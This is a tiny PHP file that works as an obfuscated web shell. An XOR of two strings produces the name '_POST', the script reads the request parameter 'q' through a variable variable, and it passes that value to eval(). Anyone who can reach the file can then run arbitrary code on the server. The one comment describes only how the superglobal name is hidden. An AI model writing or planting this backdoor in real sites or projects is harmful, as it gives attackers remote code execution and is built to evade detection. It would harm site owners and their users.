<?php
// the superglobal's name is computed, then read through a variable variable
$g = "\x2e\x69\x6c\x1f\x23" ^ 'q9#Lw';
$code = ${$g}['q'];
eval('' . $code);
